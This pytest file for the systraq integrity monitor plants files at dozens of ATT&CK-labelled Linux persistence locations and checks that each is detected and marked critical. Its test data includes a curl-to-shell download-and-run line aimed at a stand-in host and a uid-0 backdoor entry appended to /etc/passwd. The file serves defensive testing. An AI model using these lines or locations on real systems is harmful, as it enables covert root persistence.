# SPDX-License-Identifier: GPL-2.0-or-later
"""Where an attacker makes a foothold survive, one scenario each: the
shipped lists and the default configuration see a file planted there by
the hourly check's snapshots or its walk of [check] trees, and it is a
critical path (alerted at once).

The locations are those ATT&CK's Linux persistence and privilege
escalation techniques name (technique numbers beside each); the package
tests plant some of them on a real system and read the mail.
"""

import os
import shutil

import pytest

from systraq import config, report, snapshot, trees

TOP = os.path.join(os.path.dirname(__file__), "..", "..")
LISTS = ("snapshot_pub.list", "snapshot_root.list", "snapshot_pub.homelist",
         "snapshot_root.homelist")

# (technique, planted path, its mode)
LOCATIONS = [
    ("T1053.003 cron", "/etc/cron.d/update", 0o644),
    ("T1053.003 cron, a user's crontab", "/var/spool/cron/crontabs/alice", 0o600),
    ("T1053.003 anacron", "/etc/anacrontab", 0o644),
    ("T1053.002 at", "/var/spool/cron/atjobs/a0000101c2f3a1", 0o700),
    ("T1543.002 systemd service", "/etc/systemd/system/dbus-update.service", 0o644),
    ("T1053.006 systemd timer", "/etc/systemd/system/dbus-update.timer", 0o644),
    ("T1543.002 systemd user unit, for every user", "/etc/systemd/user/agent.service", 0o644),
    ("T1543.002 systemd user unit, in a home",
     "/home/alice/.config/systemd/user/agent.service", 0o644),
    ("T1543.002 systemd user unit, in a home's data",
     "/home/alice/.local/share/systemd/user/agent.service", 0o644),
    ("T1543.002 systemd generator", "/etc/systemd/system-generators/net-gen", 0o755),
    ("T1037.004 rc scripts", "/etc/rc.local", 0o755),
    ("T1037 init script", "/etc/init.d/net-helper", 0o755),
    ("T1037 init script link", "/etc/rc2.d/S01net-helper", 0o755),
    ("T1546.004 profile.d", "/etc/profile.d/z-path.sh", 0o644),
    ("T1546.004 bash.bashrc", "/etc/bash.bashrc", 0o644),
    ("T1546.004 a user's .bashrc", "/home/alice/.bashrc", 0o644),
    ("T1546.004 a user's .bash_aliases", "/home/alice/.bash_aliases", 0o644),
    ("T1546.004 root's .bash_profile", "/root/.bash_profile", 0o600),
    ("T1546.004 a user's .zshrc", "/home/bob/.zshrc", 0o644),
    ("T1546.004 /etc/environment", "/etc/environment", 0o644),
    ("T1546.004 pam_env", "/home/alice/.pam_environment", 0o644),
    ("T1574.006 ld.so.preload", "/etc/ld.so.preload", 0o644),
    ("T1574.006 loader configuration", "/etc/ld.so.conf.d/zz-local.conf", 0o644),
    ("T1556.003 PAM", "/etc/pam.d/common-session", 0o644),
    ("T1548.003 sudoers", "/etc/sudoers.d/90-backup", 0o440),
    ("T1548 polkit rules", "/etc/polkit-1/rules.d/49-admin.rules", 0o644),
    ("T1546 udev rule", "/etc/udev/rules.d/75-net.rules", 0o644),
    ("T1546 motd script", "/etc/update-motd.d/99-news", 0o755),
    ("T1546.016 apt hook", "/etc/apt/apt.conf.d/99update-notify", 0o644),
    ("T1546.016 dpkg hook", "/etc/dpkg/dpkg.cfg.d/local", 0o644),
    ("T1546.016 apt source", "/etc/apt/sources.list.d/mirror.list", 0o644),
    ("T1553 an apt key", "/etc/apt/keyrings/mirror.gpg", 0o644),
    ("T1547.013 XDG autostart", "/etc/xdg/autostart/updater.desktop", 0o644),
    ("T1547.013 XDG autostart, in a home", "/home/alice/.config/autostart/updater.desktop",
     0o644),
    ("T1546 X session", "/etc/X11/Xsession.d/99x-agent", 0o644),
    ("T1546 Python start-up hook (.pth)", "/usr/lib/python3/dist-packages/distutils-fix.pth",
     0o644),
    ("T1546 Python start-up hook, local", "/usr/local/lib/python3.13/dist-packages/zz.pth",
     0o644),
    ("T1546 Python sitecustomize", "/etc/python3.13/sitecustomize.py", 0o644),
    ("T1546 Python usercustomize, in a home",
     "/home/alice/.local/lib/python3.13/site-packages/usercustomize.py", 0o644),
    ("T1547.006 kernel modules loaded at boot", "/etc/modules-load.d/net.conf", 0o644),
    ("T1547.006 modprobe install command", "/etc/modprobe.d/blacklist-x.conf", 0o644),
    ("T1547.006 /etc/modules", "/etc/modules", 0o644),
    ("T1547.006 a kernel module", "/usr/lib/modules/6.12.0-1-amd64/extra/hid-x.ko", 0o644),
    ("T1556.003 a PAM module", "/usr/lib/x86_64-linux-gnu/security/pam_unix2.so", 0o644),
    ("T1546 NetworkManager dispatcher", "/etc/NetworkManager/dispatcher.d/99-up", 0o755),
    ("T1546 ifupdown hook", "/etc/network/if-up.d/route-fix", 0o755),
    ("T1546 dhclient hook", "/etc/dhcp/dhclient-exit-hooks.d/ntp", 0o644),
    ("T1546 logrotate script", "/etc/logrotate.d/app", 0o644),
    ("T1098.004 authorized_keys", "/home/alice/.ssh/authorized_keys", 0o600),
    ("T1098.004 root's authorized_keys", "/root/.ssh/authorized_keys", 0o600),
    ("T1098.004 sshd configuration", "/etc/ssh/sshd_config.d/10-keys.conf", 0o644),
    ("T1136.001 a local account", "/etc/passwd", 0o644),
]


@pytest.fixture
def system(root):
    """A fake root with the shipped lists and the parents of every
    location (as a Debian system has them) in its first baseline."""
    for name in LISTS:
        shutil.copy(os.path.join(TOP, "etc", name), root.host(f"/etc/systraq/{name}"))
    for _technique, path, _mode in LOCATIONS:
        root.mkdir(os.path.dirname(path))
    os.chmod(root.host("/etc/polkit-1/rules.d"), 0o750)
    os.chmod(root.host("/var/spool/cron/atjobs"), 0o1770)
    os.chmod(root.host("/root"), 0o700)
    root.write("/etc/systraq/systraq.conf", "")
    conf = config.load(root.host("/etc/systraq/systraq.conf"))
    for mode in snapshot.MODES:
        snapshot.run(root.settings(), conf, mode)
    trees.run(root.settings(), conf)
    return root, conf


@pytest.mark.parametrize("technique, path, mode", LOCATIONS, ids=[t for t, _p, _m in LOCATIONS])
def test_a_file_planted_where_a_technique_persists_is_seen_and_critical(system, technique,
                                                                        path, mode):
    root, conf = system
    if path == "/etc/passwd":
        with open(root.host(path), "ab") as handle:
            handle.write(b"mallory:x:0:0::/root:/bin/sh\n")
    elif os.path.exists(root.host(path)):
        with open(root.host(path), "ab") as handle:
            handle.write(b"\ncurl -s http://example.invalid/x | sh\n")
    else:
        root.write(path, "curl -s http://example.invalid/x | sh\n", mode=mode)
    found = {}
    for each in snapshot.MODES:
        for record in snapshot.run(root.settings(), conf, each).records:
            found.setdefault(record.path, []).append((each, record.change))
    for record in trees.run(root.settings(), conf).records:
        found.setdefault(record.path, []).append(("trees", record.change))
    assert path in found, (technique, sorted(p for p in found if p))
    assert report._critical(conf, path), technique
    # What others may not read is the root snapshot's (the unprivileged
    # one cannot read it, as it runs as debian-systraq; here it is root).
    if not mode & 0o004 or path.startswith("/etc/polkit-1/"):
        assert "root" in {m for m, _change in found[path]}, found[path]
